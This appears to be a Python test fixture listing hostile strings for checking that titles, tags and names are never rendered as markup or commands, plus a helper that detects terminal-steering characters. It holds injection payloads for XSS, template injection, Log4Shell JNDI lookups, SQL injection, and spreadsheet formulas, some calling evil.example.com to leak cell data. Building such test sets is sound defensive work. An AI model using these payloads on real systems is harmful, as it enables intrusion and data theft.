"""Hostile strings: what somebody may write into a tag, a title, a reason or a name to make a reader run it."""

from __future__ import annotations

MARK = "pw-evil"
"""An element that no page of ours has: where the browser knows one, data became markup."""

HOSTILE: dict[str, str] = {
    "element": f"<{MARK}>bold</{MARK}>",
    "script": "<script>window.evil = 1</script>",
    "image": "<img src=x onerror=window.evil=1>",
    "svg": "<svg/onload=window.evil=1><animate onbegin=window.evil=1>",
    "attribute": f'"><{MARK} x="',
    "single attribute": f"' autofocus onfocus=window.evil=1 '><{MARK} x='",
    "end of things": f"</td></table></title></textarea></style></svg><{MARK}>",
    "comment": f"--><{MARK}><!--",
    "link": "javascript:window.evil=1",
    "entity": f"&lt;{MARK}&gt; &#60;{MARK}&#62;",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example.com>",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "{0.__class__} %s %(x)s ${jndi:ldap://evil.example.com/a}",
    "path": "$..*[?(@.x)] '; DROP TABLE lines; --",
    "formula": '=HYPERLINK("http://evil.example.com/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "spaced formula": "  =1+1",
    "wide formula": "\uff1d1+1",
    "cells": 'a",=1+1,"b\n=2+2',
    "colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H",
    "c1": "\x9b31mred\x9d0;title\x9c",
    "rich markup": "[bold red]alarm[/] [link=http://evil.example.com]x[/link]",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200fabc\u200e",
    "invisible": "a\u200b\u200d\ufeffb\u00ad",
    "lines": 'first\nsecond\r\nthird\u2028fourth\u2029fifth\x0bsixth\x85seventh\n{"level": "INFO", "what": "forged"}',
    "null": "a\x00b\x7fc",
    "long": "x" * 5000,
    "wide": "W" * 300 + " " + "\u4e2d" * 300,
    "accents": "Z\u0351\u0310\u0346\u0348\u0321a" * 20,
}
"""By what they try."""

STEERS = frozenset({*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *"\u200b\u200d\u200e\u200f\u2028\u2029\ufeff",
                    *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))})  # fmt: skip
"""Characters that steer a terminal or turn a line around; a new line of ours is none of a datum's."""

FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def steering(text: str, allowed: str = "\n") -> set[str]:
    """What in the text steers whoever prints it."""
    return {repr(char) for char in text if char in STEERS and char not in allowed}
